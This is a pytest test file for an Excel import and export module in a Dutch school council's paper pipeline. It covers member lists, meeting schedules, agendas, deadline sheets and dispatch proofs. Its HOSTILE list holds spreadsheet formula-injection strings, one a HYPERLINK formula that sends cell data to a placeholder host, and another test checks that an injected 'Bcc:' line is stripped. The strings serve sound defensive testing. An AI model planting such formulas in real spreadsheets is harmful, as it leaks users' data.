"""The Excel lists: what a secretary types is read or refused with its place; what we write stays text."""

import csv
import io
import subprocess
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, time
from pathlib import Path

import openpyxl
import pytest

from pipeline.edges import excel
from pipeline.edges.excel.sheet import LONGEST_TEXT, safe_text
from pipeline.errors import ListOpenError, ListUnreadableError
from pipeline.values import (
    Actor,
    AgendaItem,
    Basis,
    DateCandidate,
    Deadline,
    Dispatch,
    DispatchState,
    Facts,
    Filed,
    ItemPaper,
    Judgement,
    Kind,
    Meeting,
    MeetingDate,
    Member,
    Origin,
    Outcome,
    Override,
    Procedure,
    ProcedureState,
    Received,
    ReceivedBasis,
    Sending,
    SendingState,
    SendPurpose,
    StartsProcedure,
    Step,
    TermWarning,
)

HOSTILE = (
    '=HYPERLINK("http://x.invalid/?"&A1,"klik")',
    "+31612345678+1",
    "-1+1",
    "@SUM(1+1)",
    "=1+1",
    "'tekst",
    "#N/A",
    "_x0041_ en _x000D_",
    "<b>&amp;</b>",
)
Cells = Sequence[object]


def make(path: Path, *rows: Cells, sheet: str = "Leden", **more: Sequence[Cells]) -> Path:
    """Make a workbook as Excel would."""
    book = openpyxl.Workbook()
    book.worksheets[0].title = sheet
    for row in rows:
        book.worksheets[0].append(row)
    for title, lines in more.items():
        other = book.create_sheet(title)
        for line in lines:
            other.append(line)
    book.save(path)
    return path


def refusal(path: Path, read: object = excel.read_members) -> str:
    with pytest.raises(ListUnreadableError) as caught:
        read(path)  # type: ignore[operator]
    return caught.value.for_secretary()


# --- leden.xlsx ------------------------------------------------------------------------

FULL = ("naam", "aanhef", "e-mail", "geleding", "school", "functie", "commissies", "lid_van", "lid_tot",
        "bezorging", "vervanger")  # fmt: skip


def test_a_full_row_is_read(tmp_path: Path) -> None:
    row = ("Noor de Wit", "mevrouw", " Noor@Example.NL ", "personeel", "De Brink", "voorzitter",
           "PMR; financiën/PR , pmr", datetime(2024, 8, 1), "31-7-2027", "papier", "Sam Bos")  # fmt: skip  # noqa: DTZ001
    assert excel.read_members(make(tmp_path / "leden.xlsx", FULL, row)) == (
        Member(
            name="Noor de Wit",
            salutation="mevrouw",
            email="noor@example.nl",
            geleding="personeel",
            school="De Brink",
            function="voorzitter",
            committees=("pmr", "financiën", "PR"),
            member_from=date(2024, 8, 1),
            member_until=date(2027, 7, 31),
            delivery="papier",
            substitute="Sam Bos",
        ),
    )


def test_columns_may_stand_in_any_order_below_a_title_on_any_sheet(tmp_path: Path) -> None:
    path = make(
        tmp_path / "leden.xlsx",
        ("Ledenlijst van de raad",),
        (),
        ("Telefoon", "  E Mail ", "LID TOT", "NÁÁM"),
        ("06", "a@b.nl", "1 augustus 2026", "Anna"),
        (),
        (None, None, None, "Bas"),
        sheet="Blad1",
    )
    anna, bas = excel.read_members(path)
    assert (anna.name, anna.email, anna.member_until) == ("Anna", "a@b.nl", date(2026, 8, 1))
    assert (bas.name, bas.email, bas.delivery) == ("Bas", "", "mail")


def test_the_sheet_leden_goes_before_the_first(tmp_path: Path) -> None:
    path = make(
        tmp_path / "l.xlsx", ("iets",), sheet="Toelichting", leden=[("naam", "e-mail"), ("Cor", "c@d.nl")]
    )
    assert [member.name for member in excel.read_members(path)] == ["Cor"]


def test_all_faults_are_told_at_once_with_row_and_column(tmp_path: Path) -> None:
    path = make(
        tmp_path / "leden.xlsx",
        ("naam", "e-mail", "lid_tot", "bezorging"),
        ("Anna", "anna(at)b.nl", None, None),
        ("Bas", "bas@b.nl", "31-2-2026", None),
        (None, "c@b.nl", None, None),
        ("Dirk", "d@b.nl, e@b.nl", None, "per duif"),
        (" anna ", "a2@b.nl", datetime(2206, 1, 1), None),  # noqa: DTZ001
    )
    told = refusal(path)
    for part in (
        "leden.xlsx",
        "rij 2, kolom e-mail: 'anna(at)b.nl'",
        "rij 3, kolom lid_tot: '31-2-2026'",
        "rij 4, kolom naam",
        "rij 5, kolom e-mail",
        "rij 5, kolom bezorging: 'per duif'",
        "rij 6, kolom lid_tot: '01-01-2206'",
        "rij 6, kolom naam: deze naam staat ook in rij 2",
        "(code LIJST-01)",
    ):
        assert part in told
    assert told.count("- rij") == 7
    assert str(tmp_path) not in told


@pytest.mark.parametrize(
    "email", ["a@b", "a@b..nl", "a b@c.nl", "a@b.nl>", "@b.nl", "jan", "a@-\n.nl", "é@b.nl"]
)
def test_an_address_that_cannot_be_used_is_refused(tmp_path: Path, email: str) -> None:
    path = make(tmp_path / "l.xlsx", ("naam", "e-mail"), ("Anna", email))
    assert "rij 2, kolom e-mail" in refusal(path)


@pytest.mark.parametrize(
    "wrong", ["1-13-2026", "30 februari 2026", "1-8", "volgend jaar", 46235, "maandag 4-8-2026"]
)
def test_what_is_no_day_is_refused(tmp_path: Path, wrong: object) -> None:
    """4 August 2026 is a Tuesday; a bare number is no day."""
    path = make(tmp_path / "l.xlsx", ("naam", "e-mail", "lid_van"), ("Anna", "a@b.nl", wrong))
    assert "rij 2, kolom lid_van" in refusal(path)


def test_a_membership_that_ends_before_it_begins_is_refused(tmp_path: Path) -> None:
    path = make(
        tmp_path / "l.xlsx", ("naam", "e-mail", "lid_van", "lid_tot"), ("A", "", "1-8-2026", "1-7-2026")
    )
    assert "rij 2, kolom lid_tot" in refusal(path)


def test_missing_columns_are_named(tmp_path: Path) -> None:
    told = refusal(make(tmp_path / "l.xlsx", ("functie", "school"), ("lid", "De Brink")))
    assert "'naam' ontbreekt" in told
    assert "'e-mail' ontbreekt" in told


def test_a_misspelt_column_is_asked_about(tmp_path: Path) -> None:
    """Else a former member would get papers because ``lid_tto`` was not seen."""
    told = refusal(make(tmp_path / "l.xlsx", ("naam", "e-mail", "lid_tto"), ("A", "", "1-7-2020")))
    assert "'lid_tto'" in told
    assert "'lid_tot'" in told


def test_a_column_that_stands_there_twice_is_refused(tmp_path: Path) -> None:
    assert "2 keer" in refusal(make(tmp_path / "l.xlsx", ("naam", "e-mail", "Naam"), ("A", "", "B")))


def test_control_characters_do_not_survive(tmp_path: Path) -> None:
    path = make(
        tmp_path / "l.xlsx", ("naam", "e-mail"), ("Anna\nBcc: x@y.nl _x000D_\u202eB\u0085C", "a@b.nl\r\n")
    )
    (member,) = excel.read_members(path)
    assert member.name == "Anna Bcc: x@y.nl B C"
    assert member.email == "a@b.nl"


def test_formulas_count_for_their_last_value(tmp_path: Path) -> None:
    """LibreOffice calculates and saves; the formula then reads as its outcome."""
    source = make(tmp_path / "l.xlsx", ("naam", "e-mail"), ('="An"&"na"', '=LOWER("A@B.NL")'))
    assert "formule zonder uitkomst" in refusal(source)
    (tmp_path / "uit").mkdir()
    soffice(tmp_path, "xlsx", source)
    (member,) = excel.read_members(tmp_path / "uit" / "l.xlsx")
    assert (member.name, member.email) == ("Anna", "a@b.nl")


def test_an_error_value_is_not_taken_for_a_name(tmp_path: Path) -> None:
    path = make(tmp_path / "l.xlsx", ("naam", "e-mail"), ("#REF!", "a@b.nl"))
    assert "foutmelding van Excel" in refusal(path)


@pytest.mark.parametrize(
    ("content", "part"),
    [
        (b"", "geen Excel-bestand"),
        (b"naam;e-mail\nAnna;a@b.nl\n", "geen Excel-bestand"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "wachtwoord"),
        (b"PK\x03\x04" + bytes(200), "beschadigd"),
    ],
)
def test_what_is_no_workbook_is_refused(tmp_path: Path, content: bytes, part: str) -> None:
    path = tmp_path / "leden.xlsx"
    path.write_bytes(content)
    assert part in refusal(path)


def test_half_a_workbook_is_refused(tmp_path: Path) -> None:
    path = make(tmp_path / "leden.xlsx", ("naam", "e-mail"))
    path.write_bytes(path.read_bytes()[:-200])
    assert "beschadigd" in refusal(path)


def test_a_zip_that_is_no_workbook_is_refused(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "leden.xlsx", "w") as box:
        box.writestr("xl/workbook.xml", "<workbook")
    assert "leden.xlsx is beschadigd" in refusal(tmp_path / "leden.xlsx")


def test_an_empty_sheet_is_refused(tmp_path: Path) -> None:
    assert "leeg" in refusal(make(tmp_path / "leden.xlsx"))


def test_a_missing_list_is_refused(tmp_path: Path) -> None:
    assert "leden.xlsx ontbreekt" in refusal(tmp_path / "leden.xlsx")


@pytest.mark.parametrize("mark", ["~$leden.xlsx", ".~lock.leden.xlsx#"])
def test_a_list_that_is_open_is_waited_for(tmp_path: Path, mark: str) -> None:
    path = make(tmp_path / "leden.xlsx", ("naam", "e-mail"))
    (tmp_path / mark).write_bytes(b"")
    with pytest.raises(ListOpenError) as caught:
        excel.read_members(path)
    assert "staat open in Excel" in caught.value.wat
    assert mark in caught.value.doe


def test_a_list_that_cannot_be_opened_is_locked(tmp_path: Path) -> None:
    (tmp_path / "leden.xlsx").mkdir()
    with pytest.raises(ListOpenError):
        excel.read_members(tmp_path / "leden.xlsx")


# --- rooster.xlsx ----------------------------------------------------------------------

MEETINGS = ("datum", "soort", "aanvang", "einde", "plaats")


def test_meetings_come_sorted_with_dutch_times(tmp_path: Path) -> None:
    path = make(
        tmp_path / "rooster.xlsx",
        MEETINGS,
        ("8-12-2026", "Overlegvergadering", time(19, 30), "21:30 uur", "Aula"),
        (datetime(2026, 11, 3), "MR-vergadering", 19.3, 0.875, None),  # noqa: DTZ001
        sheet="Vergaderingen",
    )
    assert excel.read_meetings(path) == (
        MeetingDate(day=date(2026, 11, 3), kind="MR-vergadering", starts="19.30", ends="21.00"),
        MeetingDate(
            day=date(2026, 12, 8), kind="Overlegvergadering", starts="19.30", ends="21.30", place="Aula"
        ),
    )


def test_faults_of_the_rooster_are_told_at_once(tmp_path: Path) -> None:
    path = make(
        tmp_path / "rooster.xlsx",
        MEETINGS,
        ("8-12-2026", "Overleg", "25.00", None, None),
        (None, "Overleg", None, None, None),
        ("9-12-2026", None, "19.75", "laat", None),
        ("08-12-2026", "overleg", None, None, None),
    )
    told = refusal(path, excel.read_meetings)
    for part in ("rij 2, kolom aanvang", "rij 3, kolom datum", "rij 4, kolom soort", "rij 4, kolom aanvang",
                 "rij 4, kolom einde", "rij 5, kolom datum: deze vergadering"):  # fmt: skip
        assert part in told


def test_without_rooster_there_are_no_meetings_and_no_holidays(tmp_path: Path) -> None:
    assert excel.read_meetings(tmp_path / "rooster.xlsx") == ()
    assert excel.read_school_holidays(tmp_path / "rooster.xlsx") == ()


def test_holidays_are_read_beside_the_meetings(tmp_path: Path) -> None:
    holidays = [
        ("naam", "van", "tot en met"),
        ("kerstvakantie", "19-12-2026", datetime(2027, 1, 3)),  # noqa: DTZ001
        ("herfstvakantie", "17-10-2026", "25-10-2026"),
    ]
    path = make(tmp_path / "rooster.xlsx", MEETINGS, sheet="Vergaderingen", Schoolvakanties=holidays)
    assert excel.read_meetings(path) == ()
    assert excel.read_school_holidays(path) == (
        ("herfstvakantie", date(2026, 10, 17), date(2026, 10, 25)),
        ("kerstvakantie", date(2026, 12, 19), date(2027, 1, 3)),
    )


def test_a_rooster_with_holidays_only_has_no_meetings(tmp_path: Path) -> None:
    rows = ("naam", "van", "tot en met"), ("kerstvakantie", "19-12-2026", "3-1-2027")
    assert excel.read_meetings(make(tmp_path / "rooster.xlsx", *rows, sheet="Schoolvakanties")) == ()


def test_reversed_and_overlapping_holidays_are_refused(tmp_path: Path) -> None:
    path = make(
        tmp_path / "rooster.xlsx",
        ("naam", "van", "tot en met"),
        ("kerstvakantie", "3-1-2027", "19-12-2026"),
        ("zomervakantie", "10-7-2027", "22-8-2027"),
        ("studieweek", "1-8-2027", "5-8-2027"),
        ("herfstvakantie", "22-8-2027", "1-9-2027"),
        sheet="Schoolvakanties",
    )
    told = refusal(path, excel.read_school_holidays)
    assert "rij 2, kolom tot en met" in told
    assert "rij 4, kolom van: de studieweek" in told
    assert "rij 5, kolom van: de herfstvakantie" in told
    assert told.count("in rij 3") == 2


# --- agenda.xlsx -----------------------------------------------------------------------

FOLDER = "2026-12-08 Overlegvergadering"


def paper(path: str, title: str = "Notitie") -> ItemPaper:
    return ItemPaper(path=path, sha256="a" * 64, title=title)


def meeting(*items: AgendaItem) -> Meeting:
    day = MeetingDate(day=date(2026, 12, 8), kind="Overlegvergadering")
    return Meeting(folder=FOLDER, date=day, items=items, problems=())


AGENDA = meeting(
    AgendaItem(number="1", title="Opening"),
    AgendaItem(number="4", title="Vakantierooster", papers=(paper("04 Vak/a.pdf"), paper("04 Vak/b.pdf"))),
    AgendaItem(number="4a", title="Formatie", papers=(paper("04a For/c.docx"),)),
)


def sheet_of(path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(path).worksheets[0]


def rows_below(path: Path, header: str) -> list[list[object]]:
    rows = [list(row) for row in sheet_of(path).iter_rows(values_only=True)]
    return rows[next(index for index, row in enumerate(rows) if row[0] == header) + 1 :]


def test_every_item_and_paper_has_its_row(tmp_path: Path) -> None:
    excel.write_agenda(tmp_path / "agenda.xlsx", AGENDA, ())
    rows = rows_below(tmp_path / "agenda.xlsx", "nr")
    assert [(row[0], row[1], row[6]) for row in rows] == [
        (1, "Opening", None),
        (4, "Vakantierooster", None),
        ("4.1", "Notitie", "04 Vak/a.pdf"),
        ("4.2", "Notitie", "04 Vak/b.pdf"),
        ("4a", "Formatie", None),
        ("4a.1", "Notitie", "04a For/c.docx"),
    ]


def test_minutes_that_are_no_number_are_refused_in_dutch(tmp_path: Path) -> None:
    """Without ``showErrorMessage`` a spreadsheet takes anything and says nothing."""
    excel.write_agenda(tmp_path / "agenda.xlsx", AGENDA, ())
    book = openpyxl.load_workbook(tmp_path / "agenda.xlsx")
    (check,) = book.worksheets[0].data_validations.dataValidation
    assert (check.type, check.showErrorMessage) == ("whole", True)
    assert "minuten" in check.error


TYPED = (
    Override(
        number="4",
        folder_title="Vakantierooster",
        title="=Eigen titel",
        presenter="Noor",
        starts="19.45",
        minutes=15,
    ),
    Override(number="4.1", folder_title="Notitie", source="04 Vak/a.pdf", title="Het rooster"),
    Override(number="4a", folder_title="Formatie", title="Formatieplan"),
)


def test_what_was_typed_comes_back_and_is_kept(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    excel.write_agenda(path, AGENDA, TYPED)
    assert excel.read_overrides(path) == TYPED
    excel.write_agenda(path, AGENDA, excel.read_overrides(path))
    assert excel.read_overrides(path) == TYPED


def test_what_was_typed_for_a_paper_that_is_gone_is_kept_below(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    gone = Override(number="9c", folder_title="Brief", source="09 Weg/weg.pdf", title="Eigen naam")
    excel.write_agenda(path, AGENDA, (gone, *TYPED))
    assert rows_below(path, "nr")[-1][:3] == ["9c", "Brief", "Eigen naam"]
    assert set(excel.read_overrides(path)) == {gone, *TYPED}


def test_what_was_typed_in_a_row_without_folder_title_goes_to_no_item(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    excel.write_agenda(path, AGENDA, (Override(number="4", title="Eigen"),))
    rows = [row[:3] for row in rows_below(path, "nr")]
    assert rows[1] == [4, "Vakantierooster", None]
    assert rows[-1] == [4, "(ligt niet meer in deze vergadermap)", "Eigen"]


CLOSED = AgendaItem(number="4", title="Personeel", closed=True)
OWN_WORDS = "Ontslag van de heer Bos"


def renumbered(path: Path, *items: AgendaItem) -> list[list[object]]:
    """Type a title for closed item 4, then renumber: number, folder title and own title of each row."""
    excel.write_agenda(path, meeting(CLOSED), ())
    book = openpyxl.load_workbook(path)
    book.worksheets[0]["C4"] = OWN_WORDS
    book.save(path)
    excel.write_agenda(path, meeting(*items), excel.read_overrides(path))
    return [row[:3] for row in rows_below(path, "nr")]


@pytest.mark.parametrize("title", ["Begroting", "Personeel"])
def test_a_title_typed_for_a_closed_item_never_goes_to_the_open_one_that_gets_its_number(
    tmp_path: Path, title: str
) -> None:
    path = tmp_path / "agenda.xlsx"
    rows = renumbered(path, AgendaItem(number="4", title=title), replace(CLOSED, number="5"))
    assert rows == [
        [4, title, None],
        [5, "Personeel [besloten]", None],
        [4, "Personeel [besloten]", OWN_WORDS],
    ]
    (kept,) = excel.read_overrides(path)
    assert (kept.number, kept.folder_title, kept.title) == ("4", "Personeel [besloten]", OWN_WORDS)


def test_a_row_that_was_kept_does_not_hinder_typing_for_the_item_that_has_its_number(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    items = AgendaItem(number="4", title="Begroting"), replace(CLOSED, number="5")
    renumbered(path, *items)
    book = openpyxl.load_workbook(path)
    book.worksheets[0]["C4"] = "Begroting 2027"
    book.save(path)
    excel.write_agenda(path, meeting(*items), excel.read_overrides(path))
    assert [row[2] for row in rows_below(path, "nr")] == ["Begroting 2027", None, OWN_WORDS]


def test_a_row_that_was_kept_goes_when_she_empties_it(tmp_path: Path) -> None:
    path, item = tmp_path / "agenda.xlsx", AgendaItem(number="4", title="Begroting")
    assert len(renumbered(path, item)) == 2
    book = openpyxl.load_workbook(path)
    book.worksheets[0]["C5"] = None
    book.save(path)
    excel.write_agenda(path, meeting(item), excel.read_overrides(path))
    assert [row[:3] for row in rows_below(path, "nr")] == [[4, "Begroting", None]]


def test_a_row_that_was_kept_returns_to_its_item_when_the_old_number_does(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    renumbered(path, replace(CLOSED, number="5"))
    excel.write_agenda(path, meeting(CLOSED), excel.read_overrides(path))
    assert [row[:3] for row in rows_below(path, "nr")] == [[4, "Personeel [besloten]", OWN_WORDS]]


@pytest.mark.parametrize(
    "title", ["Cafe\u0301  beleid", "_x0041_ \u200eplan", "\udcff map", "2026", *HOSTILE]
)
def test_what_was_typed_finds_its_item_whatever_its_folder_is_called(tmp_path: Path, title: str) -> None:
    path, item = tmp_path / "agenda.xlsx", AgendaItem(number="4", title=title)
    excel.write_agenda(path, meeting(item), (replace(Override.empty_for(item), title="Eigen"),))
    (typed,) = excel.read_overrides(path)
    assert typed.row == Override.empty_for(item).row
    before = path.read_bytes()
    excel.write_agenda(path, meeting(item), (typed,))
    assert path.read_bytes() == before


def test_an_own_title_follows_its_paper_to_another_number(tmp_path: Path) -> None:
    """A paper is known by its place, so its own title goes along when its number changes."""
    path = tmp_path / "agenda.xlsx"
    excel.write_agenda(path, AGENDA, TYPED)
    more = meeting(AgendaItem(number="4", title="V", papers=(paper("04 Vak/0.pdf"), paper("04 Vak/a.pdf"))))
    excel.write_agenda(path, more, excel.read_overrides(path))
    assert rows_below(path, "nr")[2][:3] == ["4.2", "Notitie", "Het rooster"]


@pytest.mark.parametrize(
    "name", ["04 Vak/ a  b.pdf", "04 Vak/_x0041_.pdf", "04 Vak/e\u0301.pdf", "=04/x.pdf"]
)
def test_a_place_comes_back_to_the_letter(tmp_path: Path, name: str) -> None:
    path, typed = (
        tmp_path / "agenda.xlsx",
        Override(number="1.1", folder_title="Notitie", source=name, title="Eigen"),
    )
    excel.write_agenda(path, meeting(AgendaItem(number="1", title="O", papers=(paper(name),))), (typed,))
    assert excel.read_overrides(path) == (typed,)


def test_only_her_cells_are_yellow(tmp_path: Path) -> None:
    excel.write_agenda(tmp_path / "agenda.xlsx", AGENDA, ())
    yellow = [
        [cell.column for cell in row if cell.fill.fgColor.rgb == "00FFF2CC"]
        for row in sheet_of(tmp_path / "agenda.xlsx").iter_rows(min_row=4, max_row=6)
    ]
    assert yellow == [[3, 4, 5, 6], [3, 4, 5, 6], [3]]


def test_the_same_agenda_is_not_written_again(tmp_path: Path) -> None:
    """Saved by another program the bytes differ, but it says the same: it is left alone."""
    path = tmp_path / "agenda.xlsx"
    excel.write_agenda(path, AGENDA, TYPED)
    book = openpyxl.load_workbook(path)
    book.worksheets[0]["E5"] = time(19, 45)
    book.save(path)
    before = path.read_bytes()
    excel.write_agenda(path, AGENDA, TYPED)
    assert path.read_bytes() == before
    excel.write_agenda(path, AGENDA, TYPED[:1])
    assert path.read_bytes() != before


def test_an_agenda_that_cannot_be_read_is_not_written_over(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    path.write_bytes(b"half")
    assert "geen Excel-bestand" in refusal(path, excel.read_overrides)
    with pytest.raises(ListUnreadableError):
        excel.write_agenda(path, AGENDA, ())
    assert path.read_bytes() == b"half"


def test_what_cannot_be_understood_in_the_agenda_is_told(tmp_path: Path) -> None:
    path = tmp_path / "agenda.xlsx"
    excel.write_agenda(path, AGENDA, ())
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    sheet["E4"], sheet["F4"], sheet["A5"], sheet["C5"] = "straks", "lang", None, "Eigen"
    sheet["C9"] = "te vaak"
    sheet.append(["4a.1", None, "nog eens", None, None, None, "04a For/c.docx"])
    book.save(path)
    told = refusal(path, excel.read_overrides)
    for part in ("rij 4, kolom aanvang: 'straks'", "rij 4, kolom minuten: 'lang'", "rij 5, kolom nr",
                 "rij 10, kolom nr: dit agendapunt of stuk staat ook in rij 9"):  # fmt: skip
        assert part in told


def test_without_agenda_nothing_is_overruled(tmp_path: Path) -> None:
    assert excel.read_overrides(tmp_path / "agenda.xlsx") == ()


# --- the lists made for her ------------------------------------------------------------


def received(*, confirmed: bool = True) -> Received:
    return Received(
        at=datetime(2026, 11, 3, 23, 30, tzinfo=UTC),
        basis=ReceivedBasis.SERVER,
        confirmed=confirmed,
        candidates=(DateCandidate(day=date(2026, 11, 4), source="postbus"),),
    )


TERM = Deadline(
    term="reglement-instemmingsverzoek",
    name="termijn van de raad",
    trigger=date(2026, 11, 4),
    strict=date(2026, 12, 16),
    last_day=date(2026, 12, 16),
    advised=None,
    actor=Actor.RAAD,
    steps=(Step(day=date(2026, 11, 4), text="Ontvangen."), Step(day=date(2026, 12, 16), text="Zes weken.")),
    basis=Basis(law="reglement", article="21", paragraph="2", confidence="V"),
    warnings=(TermWarning(code="x", text="Kijk dit na."),),
)
PROCEDURE = Procedure(
    dossier="2026-0017",
    definition="instemming-wms",
    kind=Kind.INSTEMMINGSVERZOEK,
    title="Vakantierooster",
    right_holder="hele raad",
    state=ProcedureState.ONTVANGEN,
    received=received(),
    deadlines=(TERM,),
    meeting_day=date(2026, 12, 8),
    to_do=("Bevestig de ontvangst.", "Controleer het verzoek."),
)


def test_terms_are_real_dates_soonest_first_and_closed_ones_are_out(tmp_path: Path) -> None:
    path = tmp_path / "Termijnen.xlsx"
    undated = replace(TERM, strict=None, last_day=None, steps=(), basis=None, warnings=())
    excel.write_terms(
        path,
        (
            replace(PROCEDURE, dossier="2026-0001", deadlines=(undated,), meeting_day=None),
            PROCEDURE,
            replace(PROCEDURE, dossier="2026-0002", state=ProcedureState.AFGEROND),
        ),
        date(2026, 11, 23),
    )
    assert rows_below(path, "nog")[0] == [
        "nog 23 dagen",
        "2026-0017",
        "Vakantierooster",
        "instemming",
        "de raad",
        datetime(2026, 11, 4),  # noqa: DTZ001
        datetime(2026, 12, 16),  # noqa: DTZ001
        datetime(2026, 12, 16),  # noqa: DTZ001
        datetime(2026, 12, 8),  # noqa: DTZ001
        "• Bevestig de ontvangst.\n• Controleer het verzoek.",
        "artikel 21 lid 2 van het medezeggenschapsreglement",
        "1. Ontvangen.\n2. Zes weken.",
        "• Kijk dit na.",
    ]
    assert [row[1] for row in rows_below(path, "nog")] == ["2026-0017", "2026-0001"]
    assert rows_below(path, "nog")[1][6:9] == ["te bepalen", None, None]
    sheet = sheet_of(path)
    assert sheet["G2"].number_format == "dd-mm-yyyy"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:M3")
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
    assert sheet.print_title_rows == "$1:$1"


TODAY = date(2026, 11, 23)


@pytest.mark.parametrize(
    ("day", "words", "colour"),
    [
        (date(2026, 12, 17), "verlopen", "E6A79E"),
        (date(2026, 12, 16), "vandaag", "F2C9A8"),
        (date(2026, 12, 9), "nog 7 dagen", "F2C9A8"),
        (date(2026, 12, 8), "nog 8 dagen", "F7EBC3"),
        (date(2026, 11, 25), "nog 21 dagen", "F7EBC3"),
        (date(2026, 11, 24), "nog 22 dagen", "DCE8E0"),
    ],
)
def test_the_urgency_of_a_term_shows_in_colour_and_in_words(
    tmp_path: Path, day: date, words: str, colour: str
) -> None:
    """Its last day is 16 December 2026."""
    excel.write_terms(tmp_path / "t.xlsx", (PROCEDURE,), day)
    cell = sheet_of(tmp_path / "t.xlsx")["A2"]
    assert (cell.value, cell.fill.fgColor.rgb[-6:]) == (words, colour)


def test_a_day_of_receipt_that_is_not_sure_says_so(tmp_path: Path) -> None:
    excel.write_terms(tmp_path / "t.xlsx", (replace(PROCEDURE, received=received(confirmed=False)),), TODAY)
    assert sheet_of(tmp_path / "t.xlsx")["F2"].number_format == 'dd-mm-yyyy" (?)"'


def test_a_row_is_as_high_as_its_longest_cell(tmp_path: Path) -> None:
    """Four steps on four lines need at least four times the 15 points of one line."""
    term = replace(TERM, steps=(TERM.steps[0],) * 4)
    excel.write_terms(tmp_path / "t.xlsx", (replace(PROCEDURE, deadlines=(term,)),), TODAY)
    assert sheet_of(tmp_path / "t.xlsx").row_dimensions[2].height >= 60


def filed(title: str) -> Filed:
    judgement = Judgement(
        kind=Kind.FACTUUR, confidence=1, evidence=(), likeliest=(), starts_procedure=StartsProcedure.NEE
    )
    return Filed(
        origin=Origin(arrival="a", part="1", name="b.pdf", sender=title),
        kenmerk="2026-0017-03",
        dossier="2026-0017",
        path="2026-2027/2026-0017 X/2026-0017-03 Brief.pdf",
        kind=Kind.FACTUUR,
        title=title,
        sha256="a" * 64,
        received=received(),
        facts=Facts(sender="CvB"),
        judgement=judgement,
    )


def test_incoming_papers_are_shown_by_their_legal_day_and_dutch_kind(tmp_path: Path) -> None:
    """23.30 UTC on 3 November is 4 November in Amsterdam."""
    path = tmp_path / "i.xlsx"
    unsigned = replace(filed("Nota"), origin=Origin(arrival="a", part="1", name="b.pdf"))
    excel.write_incoming(path, (unsigned,), (("factuur", "Rekening"),))
    assert rows_below(path, "kenmerk") == [
        [
            "2026-0017-03",
            datetime(2026, 11, 4),  # noqa: DTZ001
            "CvB",
            "Nota",
            "Rekening",
            "2026-0017",
            "2026-2027/2026-0017 X/2026-0017-03 Brief.pdf",
        ]
    ]


SENDING = Sending(
    id="s1",
    meeting=FOLDER,
    purpose=SendPurpose.LEDEN,
    edition="leden",
    concept="c" * 64,
    manifest="m" * 64,
    place="Versturen/x.pdf",
    notice="",
    due=datetime(2026, 11, 23, 8, 0, tzinfo=UTC),
    state=SendingState.VERZONDEN,
    file="x.pdf",
    final_sha256="f" * 64,
)


def dispatch(state: DispatchState, reason: str = "") -> Dispatch:
    return Dispatch(
        id="d1",
        member="Anna",
        to="a@b.nl",
        edition="leden",
        file="x.pdf",
        sha256="f" * 64,
        state=state,
        reason=reason,
    )


def test_the_proof_has_a_row_per_member_with_its_state_in_dutch(tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    excel.write_proof(path, SENDING, tuple(dispatch(state, "omdat") for state in DispatchState))
    rows = rows_below(path, "lid")
    assert rows[0] == ["Anna", "a@b.nl", "leden", "x.pdf", None, "nog te verzenden", "omdat", "f" * 16,
                       "d1@stukkenstroom.invalid"]  # fmt: skip
    assert [row[5] for row in rows] == ["nog te verzenden", "wordt verzonden", "verzonden", "op papier",
                                        "wacht op u", "mogelijk verzonden"]  # fmt: skip
    assert rows[3][8] is None


def test_the_proof_tells_when_a_message_went_and_what_became_of_it(tmp_path: Path) -> None:
    """20.45 in Amsterdam is 19.45 UTC in December."""
    sent = replace(
        dispatch(DispatchState.VERZONDEN),
        sent_at=datetime(2026, 12, 1, 19, 45, tzinfo=UTC),
        outcome=Outcome.NIET_BEZORGD,
        outcome_detail="550 5.1.1 User unknown",
    )
    path = tmp_path / "p.xlsx"
    excel.write_proof(path, SENDING, (sent,))
    (row,) = rows_below(path, "lid")
    assert row[4:7] == [
        "1 december 2026, 20.45 uur",
        "niet bezorgd",
        "De mailserver meldt: 550 5.1.1 User unknown",
    ]


# --- outside text, bytes ---------------------------------------------------------------


def soffice(folder: Path, target: str, *sources: Path) -> None:
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    command = ["soffice", profile, "--headless", "--convert-to", target, "--outdir", str(folder / "uit")]
    subprocess.run([*command, *map(str, sources)], check=True, capture_output=True, timeout=60)


def test_an_office_program_shows_outside_text_and_evaluates_nothing(tmp_path: Path) -> None:
    terms, incoming, proof = tmp_path / "t.xlsx", tmp_path / "i.xlsx", tmp_path / "p.xlsx"
    agenda = tmp_path / "a.xlsx"
    excel.write_terms(terms, tuple(replace(PROCEDURE, title=text) for text in HOSTILE), TODAY)
    excel.write_incoming(incoming, tuple(filed(text) for text in HOSTILE), ())
    excel.write_proof(proof, SENDING, tuple(dispatch(DispatchState.VERZONDEN, text) for text in HOSTILE))
    items = tuple(AgendaItem(number=str(n), title=text) for n, text in enumerate(HOSTILE, start=1))
    excel.write_agenda(agenda, meeting(*items), ())
    soffice(tmp_path, "csv:Text - txt - csv (StarCalc):44,34,76,1", terms, incoming, proof, agenda)
    for name, column, count in (("t", 2, 1), ("i", 3, 1), ("p", 6, 5), ("a", 1, 3)):
        text = (tmp_path / "uit" / f"{name}.csv").read_text(encoding="utf-8")
        shown = [row[column] for row in csv.reader(io.StringIO(text))][count:]
        assert shown == list(HOSTILE), name


def test_no_cell_with_outside_text_is_a_formula(tmp_path: Path) -> None:
    excel.write_incoming(tmp_path / "i.xlsx", tuple(filed(text) for text in HOSTILE), ())
    with zipfile.ZipFile(tmp_path / "i.xlsx") as box:
        assert b"<f>" not in box.read("xl/worksheets/sheet1.xml")
        assert b'quotePrefix="1"' in box.read("xl/styles.xml")


def test_a_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    """Excel counts UTF-16 units; a character outside the first plane takes two."""
